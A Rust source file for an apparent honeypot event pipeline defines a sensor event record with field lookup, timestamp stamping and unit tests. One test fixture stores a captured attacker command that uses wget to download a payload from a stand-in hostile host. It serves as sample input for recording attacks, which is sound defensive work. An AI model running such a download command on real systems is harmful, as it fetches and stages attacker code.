//! The sensor event record.
//!
//! One `Event` is one observed action on a deception sensor. The fields the
//! pipeline actually inspects are typed; everything else a sensor attaches
//! rides along in the residual `extra` map so unknown producers keep working.

use chrono::Utc;
use indexmap::IndexMap;
use serde::{Deserialize, Serialize};

/// Current UTC time as `HH:MM:SS`, the stamp format dashboards render.
pub fn now_hms() -> String {
    Utc::now().format("%H:%M:%S").to_string()
}

/// One observed sensor action.
///
/// All fields are optional on the wire; `event_kind` is required by
/// convention but its absence is a producer bug, not a parse error.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Event {
    /// Identifier of the action, e.g. `cowrie.login.failed`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub event_kind: Option<String>,

    /// Human-readable sensor message.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,

    /// Raw command input captured by the sensor.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub input: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub username: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,

    /// Remote address the action originated from.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source_address: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session_id: Option<String>,

    /// Name of the sensor instance that observed the action.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sensor: Option<String>,

    /// Stamp in `HH:MM:SS` UTC; filled on ingest when the producer omits it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub timestamp: Option<String>,

    /// Residual fields from the producer, preserved in arrival order.
    #[serde(flatten)]
    pub extra: IndexMap<String, serde_json::Value>,
}

impl Event {
    /// Look up a field by name, covering both the typed fields and the
    /// residual map. Scalar extras are stringified without JSON quoting.
    pub fn field(&self, name: &str) -> Option<String> {
        let typed = match name {
            "event_kind" => self.event_kind.as_deref(),
            "message" => self.message.as_deref(),
            "input" => self.input.as_deref(),
            "username" => self.username.as_deref(),
            "password" => self.password.as_deref(),
            "source_address" => self.source_address.as_deref(),
            "session_id" => self.session_id.as_deref(),
            "sensor" => self.sensor.as_deref(),
            "timestamp" => self.timestamp.as_deref(),
            _ => None,
        };
        if let Some(v) = typed {
            return Some(v.to_string());
        }

        self.extra.get(name).map(|v| match v {
            serde_json::Value::String(s) => s.clone(),
            other => other.to_string(),
        })
    }

    /// Fill a missing timestamp with the current `HH:MM:SS` UTC stamp.
    pub fn stamp_timestamp(&mut self) {
        if self.timestamp.is_none() {
            self.timestamp = Some(now_hms());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn field_lookup_covers_typed_and_extra() {
        let event: Event = serde_json::from_value(serde_json::json!({
            "event_kind": "cowrie.login.failed",
            "source_address": "10.0.0.1",
            "protocol": "ssh",
            "attempt": 3,
        }))
        .unwrap();

        assert_eq!(event.field("event_kind").as_deref(), Some("cowrie.login.failed"));
        assert_eq!(event.field("source_address").as_deref(), Some("10.0.0.1"));
        assert_eq!(event.field("protocol").as_deref(), Some("ssh"));
        assert_eq!(event.field("attempt").as_deref(), Some("3"));
        assert_eq!(event.field("no_such_field"), None);
    }

    #[test]
    fn stamp_timestamp_only_fills_missing() {
        let mut event = Event::default();
        event.stamp_timestamp();
        assert!(event.timestamp.is_some());

        let mut stamped = Event {
            timestamp: Some("01:02:03".to_string()),
            ..Default::default()
        };
        stamped.stamp_timestamp();
        assert_eq!(stamped.timestamp.as_deref(), Some("01:02:03"));
    }

    #[test]
    fn extra_fields_round_trip() {
        let raw = serde_json::json!({
            "event_kind": "cowrie.command.input",
            "input": "wget http://evil.example/payload",
            "duration": 1.5,
        });
        let event: Event = serde_json::from_value(raw.clone()).unwrap();
        let back = serde_json::to_value(&event).unwrap();
        assert_eq!(back, raw);
    }
}
